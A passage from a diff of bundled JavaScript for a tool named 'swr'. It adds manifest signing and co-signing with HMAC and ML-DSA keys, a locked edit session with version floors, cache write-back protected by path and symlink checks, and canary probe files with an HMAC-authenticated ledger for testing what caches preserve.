+    return { doc: { ...doc, body, signatures }, digest: canonical_manifestDigest(body) };
+}
+/**
+ * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
+ * without changing the body or its version, so distinct signers can meet a threshold.
+ */
+async function sign_cosignDocument(doc, identity) {
+    const sig = await signMldsa(identity, signingInput(doc.body));
+    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
+    return { ...doc, signatures: [...others, sig] };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/signatures.ts
+
+
+
+
+async function verifySignatures(m, policy, opts = {}) {
+    const gate = await gate_decide(gate_gateInput(m), policy);
+    // A waiver is for one run: it never becomes the floor a later copy is judged against.
+    const remembered = opts.rememberIn !== undefined && gate.allowed && policy.waiveDigest === undefined;
+    if (remembered)
+        version_memory_remember(opts.rememberIn, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
+    return {
+        kind: 'signatures',
+        gate,
+        require: policy.require,
+        manifest: {
+            file: m.file,
+            digest: m.digest,
+            version: m.body.version,
+            expires: m.body.expires,
+            signatures: m.doc.signatures.length
+        },
+        remembered
+    };
+}
+const STATE_TEXT = {
+    valid: 'valid',
+    invalid: 'invalid',
+    untrusted: 'untrusted signer',
+    'no-key': 'not checked (no HMAC key here)',
+    'other-key': 'not checked (made with another HMAC key, which this machine does not hold)'
+};
+/** A signature's state in words ("untrusted signer", "not checked (no HMAC key here)"). */
+function stateWords(s) {
+    return STATE_TEXT[s.state];
+}
+/** Who made a signature: the HMAC key's id (escaped: the document's word) or the ML-DSA fingerprint. */
+function signerWords(s) {
+    return s.alg === 'hmac-sha256'
+        ? `hmac-sha256 (key ${escapeText(s.keyid, { max: 64 })})`
+        : `ml-dsa-87 ${groupFingerprint(s.fingerprint ?? s.keyid)}`;
+}
+/** "signer: state", as a refusal names a signature. */
+function signatures_signatureWords(s) {
+    return `${signerWords(s)}: ${stateWords(s)}`;
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/edit.ts
+/**
+ * The edit session as one use case, for every command that changes a manifest (add, init, edit,
+ * rm, rescan, escrow, import, sign and the authoring commands). It exists so that no command can
+ * skip a step of it: under the manifest's lock it opens the manifest (or starts a new one), applies
+ * the editing rules (a signed manifest is edited only when its signatures verify here or its exact
+ * content was approved by digest, so an edit never launders a signature), hands the document to
+ * the command's change, and saves the result above the rollback floor this machine remembers,
+ * signed with this machine's keys when the edit was authorised, remembering what it saved. It
+ * returns the opened manifest, what was saved (digest, version, signed or why not) and the
+ * change's own value; the shell only prints them.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Open (or start) the manifest, let `change` edit it, and save it under the editing rules. */
+function editManifest(s, change) {
+    return locked(s, async () => {
+        const m = await edit_open(s);
+        const c = await change(m);
+        if (!c.save)
+            return { manifest: m, value: c.value };
+        const saved = await edit_save(s, m.file, m.doc, {
+            resign: m.resign,
+            created: m.created,
+            sidecars: c.sidecars
+        });
+        for (const f of c.dropped ?? [])
+            dropFile(f);
+        return { manifest: m, saved, value: c.value };
+    });
+}
+/** Under the lock, save a new manifest that `make` built; never over one that exists. */
+function createManifest(s, make) {
+    return locked(s, async () => {
+        const file = s.located.file;
+        const made = await make(file);
+        const saved = await edit_save(s, file, made.doc, { resign: made.resign, created: true });
+        return { file, saved, value: made.value };
+    });
+}
+/**
+ * `swr sign`: raise the version above every version remembered under the old and the new scope,
+ * and sign the body `body` makes (scope and expiry as the flags set them) with every key here.
+ */
+function signManifest(s, body) {
+    return locked(s, async () => {
+        const m = loadFormat3(s);
+        const next = body(m);
+        const keys = await keysOrRefuse(s);
+        await authorizeEdit(m, s.policy(m), s.approveDigest);
+        // Moving the scope moves the memory's key too: the floor is the higher of the two.
+        const floor = Math.max(recall(s.stateDir, m.file, m.body.scope)?.version ?? 0, recall(s.stateDir, m.file, next.scope)?.version ?? 0);
+        const signed = await signDocument({ ...m.doc, body: next }, keys, floor);
+        saveManifest(m.file, signed.doc);
+        remember(s.stateDir, m.file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
+        return {
+            file: m.file,
+            doc: signed.doc,
+            digest: signed.digest,
+            by: { hmac: keys.hmacKey !== undefined, mldsa: keys.identity?.fingerprint }
+        };
+    });
+}
+/**
+ * `swr sign --cosign`: this machine's ML-DSA signature joins the others over the same body and
+ * version, so distinct signers can meet a threshold. Only over signatures that verify: one that
+ * does not means the body changed since it was signed, and co-signing it would launder the change.
+ * Another machine's HMAC cannot be checked here (its key stays there) and is neither counted nor
+ * refused; at least one signature must verify and be trusted here, unless the digest was approved.
+ */
+function cosignManifest(s) {
+    return locked(s, async () => {
+        const m = loadFormat3(s);
+        const keys = await keysOrRefuse(s);
+        const policy = s.policy(m);
+        if (!keys.identity)
+            throw new SwrError('--cosign adds an ML-DSA signature: this machine has no identity (run "swr keygen")', EXIT.UNREPAIRABLE);
+        if (m.doc.signatures.length === 0)
+            throw new SwrError(`${m.file}: unsigned: nothing to co-sign; sign it first with "swr sign"`, EXIT.UNREPAIRABLE);
+        const states = await evaluateSignatures(gateInput(m), policy);
+        const broken = states.find(x => x.state === 'invalid');
+        if (broken)
+            throw new SwrError(`${m.file}: a ${broken.alg} signature does not verify (the body or that signature changed since it was signed): refusing to co-sign; the manifest must be signed again with "swr sign"`, EXIT.UNREPAIRABLE);
+        if (s.approveDigest === undefined && !states.some(x => x.state === 'valid'))
+            throw new SwrError(`${m.file}: no signature on it can be checked and trusted here (${states.map(signatureWords).join(', ')}): refusing to co-sign; trust its signer first ("swr trust add FP NAME"), or review it and pass --approve-digest`, EXIT.UNREPAIRABLE);
+        // One trusted signature is enough to co-sign; the run's threshold is for running, not signing.
+        await authorizeEdit(m, { ...policy, threshold: 1 }, s.approveDigest);
+        const doc = await cosignDocument(m.doc, keys.identity);
+        saveManifest(m.file, doc);
+        remember(s.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
+        return {
+            file: m.file,
+            doc,
+            digest: m.digest,
+            by: { hmac: false, mldsa: keys.identity.fingerprint }
+        };
+    });
+}
+function locked(s, fn) {
+    if (!s.lock)
+        return fn();
+    return withLock({ ...s.lock, subject: s.located.file, stateDir: s.stateDir }, fn);
+}
+function loadFormat3(s) {
+    const m = loadManifest(s.located.file, { workspace: s.workspace, cwd: s.cwd });
+    if (m.format !== 3)
+        throw new UsageError(`${m.file} is a format-2 manifest: convert it with "swr import" first`);
+    return m;
+}
+async function keysOrRefuse(s) {
+    const keys = await signingKeys(s);
+    if (!hasSigningKey(keys))
+        throw new SwrError('no signing key: run "swr keygen", or set SWR_HMAC_KEY', EXIT.UNREPAIRABLE);
+    return keys;
+}
+/** The keys this machine signs with (ML-DSA is loaded only when an identity exists). */
+async function signingKeys(s) {
+    const hmacKey = loadHmacKey(s.stateDir, s.hmacKeyText)?.key;
+    const seed = loadIdentitySeed(s.stateDir);
+    return { hmacKey, identity: seed ? await identityFromSeed(seed) : undefined };
+}
+/**
+ * The manifest to edit, authorised under the editing rules; or a new one (workspace: the
+ * `--workspace` flag, else the `.swr` directory's parent, else the working directory).
+ */
+async function edit_open(s) {
+    const { located } = s;
+    if (located.how !== 'new' && fs.existsSync(located.file)) {
+        const m = loadManifest(located.file, { workspace: s.workspace, cwd: s.cwd });
+        if (m.format !== 3)
+            throw new UsageError(`${located.file} is a format-2 manifest: convert it first with "swr import"`);
+        const auth = await authorizeEdit(m, s.policy(m), s.approveDigest);
+        const opened = {
+            file: m.file,
+            doc: m.doc,
+            workspace: m.workspace,
+            created: false,
+            resign: auth.resign
+        };
+        return auth.note ? { ...opened, note: auth.note } : opened;
+    }
+    const dir = path.dirname(located.file);
+    const workspace = s.workspace
+        ? path.resolve(s.cwd, s.workspace)
+        : path.basename(dir) === '.swr'
+            ? path.dirname(dir)
+            : s.cwd;
+    if (!fs.existsSync(workspace) || !fs.statSync(workspace).isDirectory())
+        throw new UsageError(`workspace ${workspace} is not a directory`);
+    const real = fs.realpathSync(workspace);
+    if (real === '/')
+        throw new UsageError('workspace "/" is refused: describe a directory, not the whole machine');
+    const doc = newDocument(located.file, real, new Date());
+    return { file: located.file, doc, workspace: real, created: true, resign: true };
+}
+/**
+ * Save under the editing rules: when `resign` (an authorised edit of a signed manifest, or one
+ * this session created) it is signed with the keys at hand; otherwise it is saved unsigned.
+ * Signatures over the old body are dropped either way. `created` makes the write exclusive.
+ */
+async function edit_save(s, file, doc, how) {
+    const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
+    // Versions only go up on this machine, even when an older copy was approved or the file recreated.
+    const floor = recall(s.stateDir, file, doc.body.scope)?.version ?? 0;
+    if (how.resign) {
+        const keys = await signingKeys(s);
+        if (hasSigningKey(keys)) {
+            const signed = await signDocument(doc, keys, floor);
+            saveManifest(file, signed.doc, opts);
+            remember(s.stateDir, file, { version: signed.doc.body.version, digest: signed.digest }, signed.doc.body.scope);
+            return { digest: signed.digest, version: signed.doc.body.version, signed: true };
+        }
+    }
+    const version = how.created && floor === 0 ? doc.body.version : Math.max(doc.body.version, floor) + 1;
+    const body = { ...doc.body, version };
+    saveManifest(file, { ...doc, body, signatures: [] }, opts);
+    const digest = manifestDigest(body);
+    // An approved edit saved unsigned (no key here) is still what this machine accepted.
+    if (how.resign && !how.created)
+        remember(s.stateDir, file, { version, digest, signed: false }, body.scope);
+    const note = how.resign
+        ? 'no signing key here: the edited manifest is unsigned; sign it with "swr sign"'
+        : undefined;
+    return { digest, version, signed: false, ...(note ? { note } : {}) };
+}
+/** A stale index is harmless (a new entry of that id writes its own), so a failure is ignored. */
+function dropFile(file) {
+    try {
+        fs.unlinkSync(file);
+    }
+    catch {
+        // Gone already, or not ours to remove: either way the manifest no longer reads it.
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/errors.ts
+/**
+ * What a run that stopped with an error means, decided once for both shells. The CLI prints the
+ * line and exits with the outcome's code; the Action publishes the outcome and fails the step with
+ * the line. Before this, each shell classified errors by its own rules, and a permission error on
+ * a file was bad input to the CLI (exit 4) but a bug to the Action (exit 70).
+ *
+ * Four kinds, in this order: an SwrError (its own exit code), a disk error (`diskError`: exit 74),
+ * a file system error with a path the user can fix (exit 4), and anything else, which is a bug in
+ * swr: its own status and EXIT.INTERNAL, never 1 or 2 (those say something about the workspace).
+ *
+ * `line` is the message without the `swr: ` prefix and not yet escaped: each shell escapes and
+ * bounds it for where it prints (a terminal, the runner's log).
+ */
+
+
+/** Longest description of a bug: its class and message, not whatever it dragged along. */
+const BUG_MAX = 300;
+function classifyError(err) {
+    const known = err instanceof errors_SwrError ? err : (diskError(err) ?? accessError(err));
+    if (known)
+        return { kind: known.kind, outcome: outcomeOfError(known.exitCode), line: known.message };
+    return classifyBug(err);
+}
+/**
+ * `err` as a bug, whatever it is: for what escaped every handler (an uncaught exception), which
+ * no one-line error should.
+ */
+function classifyBug(err) {
+    const e = err instanceof Error ? err : new Error(String(err));
+    const what = (e instanceof InternalError ? e.message : `${e.name}: ${e.message}`)
+        .replace(/\p{Cc}+/gu, ' ')
+        .slice(0, BUG_MAX);
+    return {
+        kind: 'INTERNAL',
+        outcome: outcomeOfError(errors_EXIT.INTERNAL),
+        line: `internal error: ${what}`,
+        stack: e.stack
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/write-back.ts
+
+
+
+
+
+
+/** Save the entries `ids` of `m` that verify now. Nothing is saved when one cannot be. */
+async function write_back_writeBack(m, ids, opts) {
+    const byId = new Map(m.body.entries.map(e => [e.id, e]));
+    const entries = ids.map(id => byId.get(id));
+    if (entries.some(e => e === undefined))
+        return { refused: 'the saved state names entries the manifest does not have' };
+    const wanted = entries;
+    const root = external_node_fs_default().realpathSync(m.workspace);
+    for (const e of wanted) {
+        const refusal = pathRefusal(root, e);
+        if (refusal)
+            return { refused: `entry ${e.id}: ${refusal}` };
+    }
+    const findings = 'findings' in opts.current
+        ? opts.current.findings
+        : await selection_reverifier(m, opts.current.reverify)(wanted);
+    const saved = [];
+    for (const e of wanted) {
+        const key = stateKey(e);
+        const f = findings.find(x => x.id === e.id);
+        if (f?.status !== 'OK') {
+            saved.push({ id: e.id, key, outcome: 'changed', status: f?.status });
+            continue;
+        }
+        // The path as the restore names it: the cache version hashes the path string.
+        const outcome = await opts.client.save(resolveEntryPath(m.workspace, e.path), key);
+        saved.push({ id: e.id, key, outcome });
+    }
+    return { saved };
+}
+/**
+ * The post step's write-back. The hand-over is not trusted (anything that writes to the job's
+ * state file can forge it): the manifest must be the one the main step checked and pass the same
+ * signature gate under this step's own policy, and the ids must be entries of it.
+ */
+async function writeBackHandedOver(m, handed, opts) {
+    if (m.digest !== handed.digest)
+        return { refused: 'the manifest is not the one the main step checked' };
+    const gate = await gate_decide(gate_gateInput(m), opts.policy);
+    if (!gate.allowed)
+        return { refused: 'the manifest does not pass the signature gate' };
+    return write_back_writeBack(m, handed.ids, { client: opts.client, current: { reverify: opts.reverify } });
+}
+/** How a saved entry is told, after the shell's own prefix. */
+function savedLine(s) {
+    if (s.outcome === 'changed')
+        return `${s.id} no longer verifies (${s.status ?? '?'}): not saved`;
+    const how = s.outcome === 'saved'
+        ? 'saved as'
+        : s.outcome === 'exists'
+            ? 'already saved as'
+            : 'could not be saved as';
+    return `${s.id} ${how} ${s.key}`;
+}
+/**
+ * Why `e` below `root` cannot be saved, or undefined: every component must be a real directory
+ * (no symlink followed) and the entry itself no symlink unless it is a `link` entry.
+ */
+function pathRefusal(root, e) {
+    const parts = external_node_path_default().posix.normalize(e.path).split('/');
+    if (external_node_path_default().isAbsolute(e.path) || parts.includes('..'))
+        return 'path leaves the workspace';
+    let at = root;
+    for (const [i, part] of parts.entries()) {
+        if (part === '.' || part === '')
+            continue;
+        at = external_node_path_default().join(at, part);
+        let st;
+        try {
+            st = external_node_fs_default().lstatSync(at);
+        }
+        catch {
+            return `${parts.slice(0, i + 1).join('/')} is absent`;
+        }
+        const last = i === parts.length - 1;
+        if (st.isSymbolicLink() && !(last && e.kind === 'link'))
+            return `${parts.slice(0, i + 1).join('/')} is a symlink`;
+        if (!last && !st.isDirectory())
+            return `${parts.slice(0, i + 1).join('/')} is not a directory`;
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
+/**
+ * Where a probe lives, said relative to a place that has another absolute path on the next runner:
+ * the workspace (GITHUB_WORKSPACE moves between runners and checkouts), the home directory or the
+ * temp directory. A ledger planted on one machine and read on another still finds its probes.
+ */
+
+function inside(dir, abs) {
+    const rel = external_node_path_default().relative(dir, abs);
+    if (rel === '')
+        return '';
+    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
+        return undefined;
+    return rel.split((external_node_path_default()).sep).join('/');
+}
+/** The workspace first: a workspace inside $HOME is still described by the workspace. */
+function anchor_anchor(abs, anchors) {
+    for (const name of ['workspace', 'home', 'tmp']) {
+        const rel = inside(anchors[name], abs);
+        if (rel !== undefined)
+            return { anchor: name, rel };
+    }
+    return { anchor: 'abs', rel: external_node_path_default().resolve(abs) };
+}
+function resolveAnchored(a, anchors) {
+    if (a.anchor === 'abs')
+        return a.rel;
+    return a.rel === '' ? anchors[a.anchor] : external_node_path_default().join(anchors[a.anchor], ...a.rel.split('/'));
+}
+/** `~/x`, `$TMPDIR/x`, `x` (workspace) or the absolute path: short and unambiguous in reports. */
+function showAnchored(a) {
+    switch (a.anchor) {
+        case 'workspace':
+            return a.rel === '' ? '.' : a.rel;
+        case 'home':
+            return a.rel === '' ? '~' : `~/${a.rel}`;
+        case 'tmp':
+            return a.rel === '' ? '$TMPDIR' : `$TMPDIR/${a.rel}`;
+        case 'abs':
+            return a.rel;
+    }
+}
+/**
+ * For tables: a 255-byte probe name or a 20-level path would push every column off the screen,
+ * so long names keep their head and byte count, and deep paths their two ends.
+ */
+function abbreviate(p) {
+    const segs = p
+        .split('/')
+        .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
+    return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/clean.ts
+/**
+ * Removing exactly what a planting made: each probe only while it is still the kind of thing that
+ * was planted (a probe name now holding a user's directory is left alone), then the directories
+ * the planting created, deepest first, only when empty.
+ */
+
+
+
+
+/**
+ * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
+ * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
+ * outside the workspace) must at least sit in a directory that is not a symlink.
+ */
+function locate(a, anchors) {
+    if (a.anchor !== 'abs')
+        return no_follow_resolveNoFollow(anchors[a.anchor], a.rel);
+    const abs = resolveAnchored(a, anchors);
+    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
+        throw new no_follow_SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
+    return abs;
+}
+function plantedKind(p) {
+    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
+}
+function removeIfPlanted(abs, kind, shown, out) {
+    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    const now = st.isSymbolicLink()
+        ? 'symlink'
+        : st.isDirectory()
+            ? 'dir'
+            : st.isFile()
+                ? 'file'
+                : 'other';
+    if (now !== kind) {
+        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
+        return;
+    }
+    try {
+        if (kind === 'dir')
+            external_node_fs_default().rmdirSync(abs);
+        else
+            external_node_fs_default().unlinkSync(abs);
+        out.removed.push(shown);
+    }
+    catch (e) {
+        out.kept.push({ path: shown, why: e.code ?? String(e) });
+    }
+}
+function clean_cleanLedger(ledger, anchors) {
+    const out = { removed: [], kept: [] };
+    // Links first, then files, then the empty directory a link points at.
+    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
+    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
+        let abs;
+        try {
+            abs = locate(p.path, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof no_follow_SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(p.path), why: e.message });
+            continue;
+        }
+        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
+        if (p.expect.type === 'hardlink') {
+            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
+            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
+        }
+    }
+    const dirs = ledger.locations.flatMap(l => l.created);
+    for (const d of dirs.reverse()) {
+        let abs;
+        try {
+            abs = locate(d, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof no_follow_SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
+            continue;
+        }
+        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
+        if (!st?.isDirectory())
+            continue;
+        try {
+            external_node_fs_default().rmdirSync(abs);
+            out.removed.push(showAnchored(d) + '/');
+        }
+        catch {
+            out.kept.push({
+                path: showAnchored(d) + '/',
+                why: 'not empty: holds files that were not planted'
+            });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/probes.ts
+/**
+ * Probe classes: each one asks a different question of whatever keeps (or drops) files between
+ * runs. Does it keep exec bits? Private modes? Symlinks, to files and to directories? Empty
+ * directories? Hard links as links? 255-byte and non-ASCII names? Dotfiles? Files above a size
+ * cap? A probe records everything it expects, so a read names the attribute that changed.
+ *
+ * Every probe is created exclusively (O_EXCL, never following a link): planting never replaces a
+ * file, and names carry the planting's random id so they cannot meet a user's file by chance.
+ */
+
+
+
+
+const PROBE_CLASSES = [
+    'stamp',
+    'script',
+    'private',
+    'symlink',
+    'dirlink',
+    'emptydir',
+    'hardlink',
+    'longname',
+    'unicode',
+    'dotfile',
+    'large'
+];
+const CLASS_QUESTION = {
+    stamp: 'small file with a random stamp',
+    script: 'executable script (0755)',
+    private: 'private file (0600)',
+    symlink: 'relative symlink to a file',
+    dirlink: 'symlink to a directory',
+    emptydir: 'empty directory',
+    hardlink: 'hard-link pair',
+    longname: 'file name of 255 bytes',
+    unicode: 'non-ASCII file name',
+    dotfile: 'dotfile',
+    large: 'large file (size caps)'
+};
+/** The bytes names may use, so a 255-byte name fits every common file system's limit exactly. */
+const NAME_MAX = 255;
+function probeName(plantId, cls) {
+    const base = `swr-canary-${plantId}-${cls}`;
+    switch (cls) {
+        case 'dotfile':
+            return `.${base}`;
+        case 'unicode':
+            // NFC on purpose: a store that normalises to NFD changes the name, which reads as lost.
+            return `${base}-\u00fcn\u00efc\u00f8d\u00e9-\u540d\u524d-\u{1f424}`.normalize('NFC');
+        case 'longname':
+            return base + '-' + 'l'.repeat(NAME_MAX - Buffer.byteLength(base) - 1);
+        case 'hardlink':
+            return `${base}-a`;
+        default:
+            return base;
+    }
+}
+function hardlinkPeerName(plantId) {
+    return `swr-canary-${plantId}-hardlink-b`;
+}
+function probes_octal(mode) {
+    return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
+}
+function sha256(data) {
+    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
+}
+const probes_CREATE = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
+/**
+ * Open a new probe file exclusively and count it as created at once: a write that fails after
+ * the open (a full disk) must still be undone.
+ */
+function openProbe(abs, mode, created) {
+    const fd = external_node_fs_default().openSync(abs, probes_CREATE, mode);
+    created.push(abs);
+    return fd;
+}
+/** Create `abs` exclusively with exactly `mode` (fchmod, so the umask cannot narrow it). */
+function probes_createFile(abs, data, mode, created) {
+    const fd = openProbe(abs, mode, created);
+    try {
+        writeAll(fd, data);
+        external_node_fs_default().fchmodSync(fd, mode);
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+}
+/**
+ * Incompressible bytes, streamed: a cache that compresses would otherwise store 64 MiB of zeros
+ * in a few kilobytes and never meet its size cap. AES-CTR keystream under a random key is fast
+ * and needs no buffer of the whole size.
+ */
+function createLarge(abs, size, created) {
+    const cipher = (0,external_node_crypto_.createCipheriv)('aes-256-ctr', (0,external_node_crypto_.randomBytes)(32), (0,external_node_crypto_.randomBytes)(16));
+    const hash = (0,external_node_crypto_.createHash)('sha256');
+    const zero = Buffer.alloc(1 << 20);
+    const fd = openProbe(abs, 0o644, created);
+    try {
+        for (let left = size; left > 0;) {
+            const n = Math.min(left, zero.length);
+            const chunk = cipher.update(zero.subarray(0, n));
+            writeAll(fd, chunk);
+            hash.update(chunk);
+            left -= n;
+        }
+        external_node_fs_default().fchmodSync(fd, 0o644);
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+    return hash.digest('hex');
+}
+function stampText(plantId, cls) {
+    return Buffer.from(`swr canary ${plantId} ${cls} ${(0,external_node_crypto_.randomBytes)(12).toString('hex')}\n`);
+}
+/**
+ * Plant one probe of `cls` in `ctx.dir`; returns its expectation, with paths relative to the
+ * directory (the caller anchors them). Throws on EEXIST and every other failure; a disk error
+ * (full, quota, I/O) as the one line naming the probe that every write of swr gives (exit 74).
+ */
+function plantProbe(cls, ctx) {
+    const abs = external_node_path_default().join(ctx.dir, probeName(ctx.plantId, cls));
+    try {
+        return plantOne(cls, ctx);
+    }
+    catch (err) {
+        throw asWriteError(err, abs);
+    }
+}
+function plantOne(cls, ctx) {
+    const name = probeName(ctx.plantId, cls);
+    const abs = external_node_path_default().join(ctx.dir, name);
+    const file = (data, mode) => {
+        probes_createFile(abs, data, mode, ctx.created);
+        return { type: 'file', mode: probes_octal(mode), size: data.length, sha256: sha256(data) };
+    };
+    switch (cls) {
+        case 'script': {
+            const body = `#!/bin/sh\n# swr canary ${ctx.plantId}\necho ${(0,external_node_crypto_.randomBytes)(8).toString('hex')}\n`;
+            return { name, expect: file(Buffer.from(body), 0o755) };
+        }
+        case 'private':
+            return { name, expect: file(stampText(ctx.plantId, cls), 0o600) };
+        case 'stamp':
+        case 'longname':
+        case 'unicode':
+        case 'dotfile':
+            return { name, expect: file(stampText(ctx.plantId, cls), 0o644) };
+        case 'large': {
+            const digest = createLarge(abs, ctx.largeBytes, ctx.created);
+            return { name, expect: { type: 'file', mode: '0644', size: ctx.largeBytes, sha256: digest } };
+        }
+        case 'emptydir':
+            external_node_fs_default().mkdirSync(abs, { mode: 0o755 });
+            ctx.created.push(abs);
+            external_node_fs_default().chmodSync(abs, 0o755);
+            return { name, expect: { type: 'dir', mode: '0755' } };
+        case 'symlink':
+        case 'dirlink': {
+            // Relative targets: an absolute one would point back at the old machine after a move.
+            const target = cls === 'symlink' ? probeName(ctx.plantId, 'stamp') : probeName(ctx.plantId, 'emptydir');
+            external_node_fs_default().symlinkSync(target, abs);
+            ctx.created.push(abs);
+            return {
+                name,
+                expect: { type: 'symlink', target, resolves: cls === 'symlink' ? 'file' : 'dir' }
+            };
+        }
+        case 'hardlink': {
+            const data = stampText(ctx.plantId, cls);
+            probes_createFile(abs, data, 0o644, ctx.created);
+            const peer = hardlinkPeerName(ctx.plantId);
+            external_node_fs_default().linkSync(abs, external_node_path_default().join(ctx.dir, peer));
+            ctx.created.push(external_node_path_default().join(ctx.dir, peer));
+            return {
+                name,
+                expect: { type: 'hardlink', mode: '0644', size: data.length, sha256: sha256(data), peer }
+            };
+        }
+    }
+}
+/** Links need their targets first: plant in this order. */
+function plantingOrder(classes) {
+    const rank = (c) => (c === 'symlink' || c === 'dirlink' ? 1 : 0);
+    return [...classes].sort((a, b) => rank(a) - rank(b));
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/ledger.ts
+/**
+ * The canary ledger: what one planting put where, kept in the private state directory (0600,
+ * written atomically). It is the only record of the probes, so reading it is strict: a damaged
+ * ledger is an error naming the field, never a silent "everything lost".
+ *
+ * Clean removes what the ledger names, so the ledger is authenticated before anything acts on it:
+ * HMAC-SHA256 over its canonical JSON under a key kept beside it (ledger.key, 32 random bytes,
+ * created 0600 with the first planting). A ledger that fails is refused in one line and nothing is
+ * removed. The key guards against a ledger written by anything but swr with this state directory;
+ * where the state directory itself travels (the Action's cache), it is as strong as that channel,
+ * and the name rules below still confine what a ledger may name.
+ */
+
+
+
+
+
+
+
+
+const LEDGER_FORMAT = 'swr-canary-ledger/1';
+const CANARY_DIR = 'canary';
+const LEDGER_FILE = 'ledger.json';
+const KEY_FILE = 'ledger.key';
+const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
+function ledgerPath(stateDir) {
+    return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
+}
+function ledger_keyPath(stateDir) {
+    return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
+}
+/** The ledger key, or undefined when there is none (nothing was planted with this state). */
+function readKey(stateDir) {
+    const file = ledger_keyPath(stateDir);
+    let fd;
+    try {
+        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
+    }
+    catch (e) {
+        if (e.code === 'ENOENT')
+            return undefined;
+        throw bad(file, `cannot be read (${e.code ?? String(e)})`);
+    }
+    try {
+        const buf = Buffer.alloc(128);
+        const n = external_node_fs_default().readSync(fd, buf, 0, buf.length, 0);
+        const text = buf.subarray(0, n).toString('utf8').trim();
+        if (!/^[0-9a-f]{64}$/.test(text))
+            throw bad(file, 'is not a ledger key (64 hex digits)');
+        return Buffer.from(text, 'hex');
+    }
+    finally {
+        external_node_fs_default().closeSync(fd);
+    }
+}
+/** The key, created on first use (exclusively, 0600: a concurrent creator's key wins). */
+function ledgerKey(stateDir) {
+    const have = readKey(stateDir);
+    if (have)
+        return have;
+    state_dir_ensurePrivateDir(stateDir, CANARY_DIR);
+    try {
+        atomic_writeFileAtomic(ledger_keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
+            mode: 0o600,
+            exclusive: true
+        });
+    }
+    catch (e) {
+        if (e.code !== 'EEXIST')
+            throw e;
+    }
+    const key = readKey(stateDir);
+    if (!key)
+        throw bad(ledger_keyPath(stateDir), 'vanished after it was created');
+    return key;
+}
+function macOf(key, body) {
+    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonicalBytes(body)).digest('hex');
+}
+function writeLedger(stateDir, ledger) {
+    const key = ledgerKey(stateDir);
+    const { mac: _old, ...body } = ledger;
+    const signed = { ...body, mac: macOf(key, body) };
+    atomic_writeFileAtomic(ledgerPath(stateDir), JSON.stringify(signed, null, 1) + '\n', { mode: 0o600 });
+}
+/** Throws unless `v` carries the MAC this state directory's key gives it. */
+function authenticate(stateDir, file, v) {
+    const refuse = (why) => bad(file, `${why}; nothing was removed (delete the ledger to plant again)`);
+    const key = readKey(stateDir);
+    if (!key)
+        throw refuse('cannot be authenticated: no ledger key in the state directory');
+    if (typeof v.mac !== 'string' || !/^[0-9a-f]{64}$/.test(v.mac))
+        throw refuse('fails authentication: it carries no MAC');
+    const { mac, ...body } = v;
+    let want;
+    try {
+        want = macOf(key, body);
+    }
+    catch {
+        throw refuse('fails authentication: it has no canonical form');
+    }
+    if (!(0,external_node_crypto_.timingSafeEqual)(Buffer.from(want, 'hex'), Buffer.from(mac, 'hex')))
+        throw refuse('fails authentication: not written by swr with this state directory, or altered');
+}
+function bad(file, why) {
+    return new errors_SwrError(`canary ledger ${file}: ${why}`, errors_EXIT.BAD_MANIFEST);
+}
+function isAnchored(v) {
+    const a = v;
+    return (typeof a === 'object' &&
+        a !== null &&
